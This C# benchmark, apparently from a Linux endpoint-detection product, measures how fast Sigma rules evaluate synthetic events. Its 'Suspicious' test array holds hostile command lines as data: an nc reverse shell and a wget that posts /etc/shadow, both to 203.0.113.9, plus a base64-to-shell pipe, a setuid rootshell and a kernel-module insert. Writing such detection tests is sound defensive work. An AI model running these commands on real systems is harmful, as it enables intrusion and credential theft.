using System.Diagnostics;
using Osprey.Agent.Sensors.Processes;
using Osprey.Contracts.V1;
using Osprey.Detection.Sigma;
using Osprey.Testing.Paths;
using Osprey.Contracts.Processes;

namespace Osprey.Bench;

/// <summary>
/// (detection a) Sigma: compiles every Linux rule of the SigmaHQ corpus and evaluates a realistic mix of Osprey events
/// through all of them on one thread — process starts with varied command lines (45%), file events (30%), network
/// connections (15%) and DNS queries (10%), a few of them suspicious — cycling through a set of distinct events large
/// enough (50,000 by default, about 60 MB) that each is evaluated cold, as a node meets it. Prints events/s overall
/// (wall clock and per CPU second of the process, which stays meaningful on a busy machine) and per event type, beside
/// the same run without the engine's prefilter, and the bytes allocated per event (only matches allocate).
/// </summary>
public static class SigmaBenchmark
{
    private static readonly string[] Users = ["root", "alice", "bob", "www-data", "postgres", "nobody"];

    private static readonly (string Image, string[] Arguments)[] Programs =
    [
        ("/usr/bin/ls", ["-la", "{dir}"]), ("/usr/bin/cat", ["{file}"]), ("/usr/bin/grep", ["-r", "{word}", "{dir}"]),
        ("/usr/bin/bash", ["-c", "{shell}"]), ("/usr/bin/sh", ["-c", "{shell}"]), ("/usr/bin/python3", ["{dir}/app.py", "--port", "{port}"]),
        ("/usr/bin/curl", ["-s", "-o", "{file}", "https://{domain}/{word}"]), ("/usr/bin/wget", ["-q", "https://{domain}/{word}.tar.gz"]),
        ("/usr/bin/git", ["pull", "--rebase"]), ("/usr/bin/ssh", ["-p", "{port}", "{user}@{domain}"]), ("/usr/sbin/sshd", ["-D"]),
        ("/usr/bin/systemctl", ["status", "{word}.service"]), ("/usr/bin/journalctl", ["-u", "{word}", "--since", "today"]),
        ("/usr/bin/tar", ["-czf", "/tmp/{word} backup.tgz", "{dir}"]), ("/usr/bin/find", ["{dir}", "-name", "*.log", "-mtime", "+7"]),
        ("/usr/bin/ps", ["aux"]), ("/usr/bin/id", []), ("/usr/bin/uname", ["-a"]), ("/usr/bin/sed", ["-i", "s/{word}/x/g", "{file}"]),
        ("/usr/bin/awk", ["{print $1}", "{file}"]), ("/usr/bin/sort", ["-u", "{file}"]), ("/usr/bin/node", ["{dir}/server.js"]),
        ("/usr/bin/java", ["-Xmx2g", "-jar", "{dir}/app.jar"]), ("/usr/bin/docker", ["ps", "--format", "{{.Names}}"]),
        ("/usr/bin/apt-get", ["install", "-y", "{word}"]), ("/usr/bin/dpkg", ["-l"]), ("/usr/bin/cp", ["{file}", "{dir}/"]),
        ("/usr/bin/mv", ["{file}", "{file}.old"]), ("/usr/bin/rm", ["-f", "{file}"]), ("/usr/bin/chmod", ["644", "{file}"]),
        ("/usr/bin/chown", ["{user}:{user}", "{file}"]), ("/usr/bin/crontab", ["-l"]), ("/usr/bin/sudo", ["-u", "{user}", "id"]),
        ("/usr/bin/vim", ["{file}"]), ("/usr/bin/less", ["{file}"]), ("/usr/bin/make", ["-j4"]), ("/usr/bin/gcc", ["-O2", "-o", "{word}", "{word}.c"]),
        ("/usr/lib/postgresql/15/bin/postgres", ["-D", "/var/lib/postgresql/15/main"]), ("/usr/sbin/nginx", ["-g", "daemon off;"]),
    ];

    private static readonly string[] Shell =
    [
        "cd {dir} && ls", "echo {word} >> {file}", "test -f {file} && cat {file}", "for f in {dir}/*; do wc -l \"$f\"; done",
        "ps aux | grep {word}", "exec {dir}/run.sh", "df -h | tail -n +2",
    ];

    private static readonly (string Image, string[] Arguments)[] Suspicious =
    [
        ("/usr/bin/sh", ["-c", "echo aWQgPiAvdG1wL293bmVk | base64 -d | sh"]), ("/usr/bin/chmod", ["u+s", "/tmp/rootshell"]),
        ("/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.9", "4444"]), ("/usr/bin/python3", ["-c", "import pty;pty.spawn(\"/bin/bash\")"]),
        ("/usr/bin/kmod", ["insmod", "/tmp/r.ko"]), ("/usr/bin/wget", ["--post-file=/etc/shadow", "http://203.0.113.9/"]),
    ];

    private static readonly string[] Directories = ["/home/alice", "/home/bob/src", "/var/log", "/etc", "/tmp", "/opt/app", "/var/www/html", "/srv/data"];

    private static readonly string[] Words = ["config", "nginx", "report", "backup", "deploy", "metrics", "users", "cache", "session", "index"];

    private static readonly string[] Domains = ["example.org", "updates.example.com", "cdn.example.net", "api.github.com", "deb.debian.org", "pool.ntp.org"];

    public static Task<int> RunAsync(long total, int distinct, string? rulesDirectory, CancellationToken cancellationToken)
    {
        var directory = rulesDirectory ?? DefaultRules();
        var compileClock = Stopwatch.StartNew();
        var results = new SigmaCompiler().CompileDirectory(directory);
        compileClock.Stop();
        var rules = results.Where(r => r.Compiled is not null).Select(r => r.Compiled!).ToList();
        Figures.Print("sigma_rules_compiled", rules.Count, "rules");
        Figures.Print("sigma_rules_unsupported", results.Count(r => r.Status == SigmaCompileStatus.Unsupported), "rules");
        Figures.Print("sigma_rules_invalid", results.Count(r => r.Status == SigmaCompileStatus.Invalid), "rules");
        Figures.Print("sigma_compile_time", compileClock.Elapsed.TotalMilliseconds, "ms");

        var events = Mix(distinct, new Random(20260805));
        var engine = new SigmaEngine(rules);
        var matches = new List<SigmaMatch>();
        var matched = Run(engine, events, events.Count, matches, cancellationToken).Matches;
        Figures.Print("sigma_event_mix_matched", 100.0 * matched / events.Count, "% of events");

        var (seconds, _, allocated, cpu) = Run(engine, events, total, matches, cancellationToken);
        Figures.Print("sigma_events", total, "events");
        Figures.Print("sigma_distinct_events", events.Count, "events");
        Figures.Print("sigma_events_per_second", total / seconds, "events/s");
        Figures.Print("sigma_events_per_cpu_second", total / cpu, "events/s");
        Figures.Print("sigma_ns_per_event", seconds * 1e9 / total, "ns");
        Figures.Print("sigma_allocated_per_event", (double)allocated / total, "bytes");

        foreach (var type in events.Select(e => e.Type).Distinct().Order())
        {
            var subset = events.Where(e => e.Type == type).ToList();
            var count = Math.Max(subset.Count, total / 10);
            var perType = Run(engine, subset, count, matches, cancellationToken).Seconds;
            Figures.Print($"sigma_{Snake(type)}_events_per_second", count / perType, "events/s");
        }

        var unfiltered = new SigmaEngine(rules, new SigmaEngineOptions { Prefilter = false });
        var sample = Math.Max(events.Count, total / 4);
        Run(unfiltered, events, events.Count, matches, cancellationToken);
        Figures.Print("sigma_events_per_second_without_prefilter", sample / Run(unfiltered, events, sample, matches, cancellationToken).Seconds, "events/s");
        return Task.FromResult(0);
    }

    private static (double Seconds, long Matches, long Allocated, double CpuSeconds) Run(SigmaEngine engine, List<Event> events, long count, List<SigmaMatch> matches, CancellationToken cancellationToken)
    {
        long found = 0;
        var allocatedBefore = GC.GetAllocatedBytesForCurrentThread();
        var cpuBefore = System.Diagnostics.Process.GetCurrentProcess().TotalProcessorTime;
        var clock = Stopwatch.StartNew();
        for (long i = 0; i < count; i++)
        {
            found += engine.Evaluate(events[(int)(i % events.Count)], matches);
            if (matches.Count > 0)
            {
                matches.Clear();
            }

            if ((i & 0xFFFF) == 0)
            {
                cancellationToken.ThrowIfCancellationRequested();
            }
        }

        clock.Stop();
        var cpu = System.Diagnostics.Process.GetCurrentProcess().TotalProcessorTime - cpuBefore;
        return (clock.Elapsed.TotalSeconds, found, GC.GetAllocatedBytesForCurrentThread() - allocatedBefore, cpu.TotalSeconds);
    }

    internal static string DefaultRules() => CorporaPaths.Require(Path.Combine("sigma", "linux"));

    private static string Snake(EventType type) => string.Concat(type.ToString().Select((c, i) => i > 0 && char.IsUpper(c) ? "_" + char.ToLowerInvariant(c) : char.ToLowerInvariant(c).ToString()));

    /// <summary>The mix: 45% process starts, 30% file events, 15% connections, 10% DNS queries; one event in 200 suspicious.</summary>
    private static List<Event> Mix(int count, Random random)
    {
        var events = new List<Event>(count);
        for (var i = 0; i < count; i++)
        {
            var roll = random.Next(100);
            events.Add(roll switch
            {
                < 45 => ProcessStart(random, random.Next(200) == 0),
                < 75 => FileEvent(random),
                < 90 => Connection(random),
                _ => Dns(random),
            });
        }

        return events;
    }

    private static Event ProcessStart(Random random, bool suspicious)
    {
        var (image, arguments) = suspicious ? Suspicious[random.Next(Suspicious.Length)] : Programs[random.Next(Programs.Length)];
        var (parentImage, parentArguments) = Programs[random.Next(Programs.Length)];
        var user = Pick(random, Users);
        var process = Process(random, image, [Path.GetFileName(image), .. arguments.Select(a => Fill(a, random))]);
        return new Event
        {
            Type = EventType.ProcessStart,
            Device = new DeviceRef { HostName = "web-01", OsFamily = OsFamily.Linux },
            User = new UserRef { Name = user, Id = user == "root" ? "0" : "1000" },
            Process = process,
            ParentUniquePid = "p-" + random.Next(1000),
            ProcessStart = new ProcessStartEvent
            {
                Parent = Process(random, parentImage, [Path.GetFileName(parentImage), .. parentArguments.Select(a => Fill(a, random))]),
                Cwd = Pick(random, Directories),
                SpawnSyscall = random.Next(10) == 0 ? "fork" : "execve",
                SessionId = "3",
                Credentials = new ProcessCredentials { User = new UserRef { Name = user, Id = "1000" }, EffectiveUser = new UserRef { Name = user, Id = "1000" } },
            },
        };
    }

    private static Event FileEvent(Random random)
    {
        var path = $"{Pick(random, Directories)}/{Pick(random, Words)}{random.Next(100)}.{Pick(random, ["txt", "log", "conf", "json", "sh", "py"])}";
        var file = new FileRef { Path = path, Name = Path.GetFileName(path), Sha256 = "ab" };
        var e = new Event { Device = new DeviceRef { OsFamily = OsFamily.Linux }, Process = Process(random, Programs[random.Next(Programs.Length)].Image, ["x"]) };
        switch (random.Next(4))
        {
            case 0:
                e.Type = EventType.FileCreate;
                e.FileCreate = new FileEvent { File = file, Changes = { "created" } };
                break;
            case 1:
                e.Type = EventType.FileModify;
                e.FileModify = new FileEvent { File = file, Changes = { "content" } };
                break;
            case 2:
                e.Type = EventType.FileRename;
                e.FileRename = new FileRenameEvent { File = file, OldPath = path + ".tmp" };
                break;
            default:
                e.Type = EventType.FileDelete;
                e.FileDelete = new FileEvent { File = file, Changes = { "deleted" } };
                break;
        }

        return e;
    }

    private static Event Connection(Random random) => new()
    {
        Type = EventType.NetworkConnection,
        Device = new DeviceRef { OsFamily = OsFamily.Linux },
        Process = Process(random, Programs[random.Next(Programs.Length)].Image, ["x"]),
        NetworkConnection = new NetworkConnectionEvent
        {
            LocalIp = "10.0.0.5",
            LocalPort = random.Next(32768, 61000),
            RemoteIp = random.Next(3) == 0 ? $"10.0.{random.Next(256)}.{random.Next(256)}" : $"{random.Next(1, 224)}.{random.Next(256)}.{random.Next(256)}.{random.Next(256)}",
            RemotePort = Pick(random, [443, 80, 22, 5432, 53, 8080, 4444]),
            Protocol = "tcp",
            Direction = random.Next(5) == 0 ? Direction.Inbound : Direction.Outbound,
        },
    };

    private static Event Dns(Random random)
    {
        var e = new Event
        {
            Type = EventType.DnsQuery,
            Device = new DeviceRef { OsFamily = OsFamily.Linux },
            Process = Process(random, Programs[random.Next(Programs.Length)].Image, ["x"]),
            DnsQuery = new DnsQueryEvent { Name = Pick(random, Domains), QueryType = "A", ResponseCode = "NOERROR" },
        };
        e.DnsQuery.ResolvedIps.Add($"93.184.{random.Next(256)}.{random.Next(256)}");
        return e;
    }

    private static ProcessRef Process(Random random, string image, string[] argv) => new()
    {
        Pid = random.Next(300, 400_000),
        UniquePid = "u-" + random.Next(),
        Name = Path.GetFileName(image),
        File = new FileRef { Path = image, Name = Path.GetFileName(image), Md5 = "0123456789abcdef0123456789abcdef" },
        CommandLine = CommandLines.Join(argv),
    };

    private static string Fill(string template, Random random) => (template.Contains("{shell}", StringComparison.Ordinal)
            ? template.Replace("{shell}", Fill(Pick(random, Shell), random), StringComparison.Ordinal)
            : template)
        .Replace("{dir}", Pick(random, Directories), StringComparison.Ordinal)
        .Replace("{file}", $"{Pick(random, Directories)}/{Pick(random, Words)}.txt", StringComparison.Ordinal)
        .Replace("{word}", Pick(random, Words), StringComparison.Ordinal)
        .Replace("{domain}", Pick(random, Domains), StringComparison.Ordinal)
        .Replace("{user}", Pick(random, Users), StringComparison.Ordinal)
        .Replace("{port}", random.Next(1024, 65535).ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);

    private static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
